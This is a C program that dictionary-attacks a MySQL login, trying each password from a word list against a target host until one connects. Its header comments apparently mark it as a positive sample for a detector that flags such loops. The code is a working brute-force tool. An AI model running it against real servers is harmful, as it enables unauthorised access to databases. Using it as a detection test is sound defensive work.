// SOURCE: public GitHub file (MySQL password tester; search-index id 25292930981; the index does not name its repository)
// LIBRARY: mysql
// SHAPE: positive - one mysql_init + mysql_real_connect to the same host for every line of the word list
// FLAGS: -I/usr/include/mariadb
#include <mysql.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char *argv[]) {
  const char *username = argv[1];
  const char *password_list = argv[2];
  const char *target_ip = argv[3];
  if (argc < 4)
    return 1;

  FILE *file = fopen(password_list, "r");
  if (file == NULL) {
    perror("Failed to open password list");
    return 1;
  }

  char password[256];
  int found = 0;

  while (fgets(password, sizeof(password), file) != NULL) {
    password[strcspn(password, "\n")] = 0;

    MYSQL *conn = mysql_init(NULL); // EXPECT-WARN
    if (conn == NULL) {
      fprintf(stderr, "mysql_init() failed\n");
      fclose(file);
      return 1;
    }

    if (mysql_real_connect(conn, target_ip, username, password, NULL, 0, NULL, 0)) {
      printf("KEY FOUND: [ \"%s\" ]\n", password);
      found = 1;
      mysql_close(conn);
      break;
    }

    mysql_close(conn);
  }

  fclose(file);
  if (!found)
    printf("KEY NOT FOUND\n");
  return 0;
}
